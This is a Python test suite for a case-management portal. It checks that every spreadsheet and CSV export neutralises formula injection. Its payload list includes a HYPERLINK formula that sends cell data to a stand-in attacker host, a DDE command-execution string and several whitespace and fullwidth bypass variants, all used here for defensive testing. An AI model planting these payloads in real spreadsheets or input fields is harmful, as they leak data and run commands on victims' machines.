"""Attack class: formula injection into spreadsheets (issue 12, item 11).

Case subjects, unit titles, risk and major-event entries are typed by users; every xlsx and
CSV export goes through one writer (``portal.layout.export``) that writes them as text and
prefixes a leading ``= + - @``, tab or CR with an apostrophe. Risk and event entries are
checked in ``tests/reports/test_export_formula_injection.py`` (they need the reporting forms).
"""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pyramid.traversal import find_resource

from portal.layout.export import csv_bytes, restore_text, text, xlsx_bytes
from portal.testing.web import login
from tests.security.formula import csv_texts, xlsx_texts

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "　@x",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_never_writes_a_live_cell(payload):
    rows = [[payload, 3, date(2026, 11, 26), True, None, "普通文字 = 不是公式"]]
    texts = xlsx_texts(xlsx_bytes([("表", ["a", "b", "c", "d", "e", "f"], rows)]))
    assert "'" + payload.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts]
    assert "2026-11-26" in texts and "是" in texts and "普通文字 = 不是公式" in texts
    assert ("'" + payload) in csv_texts(csv_bytes(["a"], [[payload]]))
    assert restore_text(text(payload)) == payload


def test_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(xlsx_bytes([("表", ["a"], [[3, 2.5, Decimal("84.0")]])])))
    assert [c.value for c in book["表"][2]] == [3, 2.5, 84.0]
    assert [c.data_type for c in book["表"][2]] == ["n", "n", "n"]


def test_characters_a_spreadsheet_cannot_hold_are_dropped():
    assert xlsx_texts(xlsx_bytes([("表", ["a"], [["bell\x07char\x00"]])])) == ["a", "bellchar"]


@pytest.fixture
def planted(app, site_of):
    """A case subject and a unit title that are formulas."""
    from tests.public.seeding import PETITIONER, Seeder

    path = Seeder(app)("/zhongyuan", PETITIONER, subject=PAYLOADS[0], received_on=date(2026, 11, 2))
    with site_of(app, commit=True) as site:
        find_resource(site, "/zhongyuan/s01").title = PAYLOADS[3]
    return path


def test_case_ledger_export(planted, testapp):
    login(testapp, "zy_officer")
    texts = xlsx_texts(testapp.get("/zhongyuan/@@cases-export").body)
    assert "'" + PAYLOADS[0] in texts


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_org_tree_export_and_its_round_trip(planted, testapp, fmt):
    login(testapp, "zy_head")
    body = testapp.get("/zhongyuan/@@export-tree", {"format": fmt}).body
    texts = (xlsx_texts if fmt == "xlsx" else csv_texts)(body)
    assert "'" + PAYLOADS[3] in texts
    from portal.orgtree.io import read_rows

    rows = dict((r[1][1], r[1][2]) for r in read_rows(f"x.{fmt}", body))
    assert rows["s01"] == PAYLOADS[3]  # importing our own export gives the title back


def test_report_dashboards_export(planted, testapp):
    login(testapp, "zy_officer")
    assert "'" + PAYLOADS[3] in xlsx_texts(testapp.get("/zhongyuan/@@reports-export").body)
    login(testapp, "city_officer")
    xlsx_texts(testapp.get("/@@reports-units-export").body)
    xlsx_texts(testapp.get("/@@major-events-export").body)


# Every export view of the portal: (who downloads it, from where). A new export must be added
# here, so that it is checked too.
EXPORTS = {
    name: ("zy_head", "/zhongyuan/")
    for name in (
        "assessment-export",
        "backlog-export",
        "cases-export",
        "decisions-export",
        "duties-board-export",
        "export-tree",
        "incidents-export",
        "major-events-export",
        "ontime-export",
        "rectifications-export",
        "reports-export",
        "risk-ledger-export",
        "zero-reports-export",
    )
}
EXPORTS["reports-units-export"] = ("city_officer", "/")
#: Where the planted subject (a case) or unit title (a school) shows up.
SHOWS_SUBJECT = {"cases-export", "backlog-export"}
SHOWS_TITLE = {"assessment-export", "export-tree", "ontime-export", "reports-export"}


def test_every_export_view_is_listed_here(app):
    names = {
        i["introspectable"]["name"]
        for i in app.registry.introspector.get_category("views")
        if "export" in (i["introspectable"]["name"] or "")
    }
    assert names == set(EXPORTS)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_writes_inert_cells(planted, testapp, name):
    user, base = EXPORTS[name]
    login(testapp, user)
    texts = xlsx_texts(testapp.get(f"{base}@@{name}").body)
    if name in SHOWS_SUBJECT:
        assert "'" + PAYLOADS[0] in texts
    if name in SHOWS_TITLE:
        assert any(t.startswith("'" + PAYLOADS[3]) for t in texts)


def test_no_other_module_writes_spreadsheets():
    """The one writer is the only place that builds an xlsx workbook or writes CSV."""
    import pathlib
    import re

    import portal

    root = pathlib.Path(portal.__file__).parent
    writers = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|xlsxwriter")
    found = [
        str(p.relative_to(root)) for p in root.rglob("*.py") if writers.search(p.read_text(encoding="utf-8"))
    ]
    assert found == ["layout/export.py"]
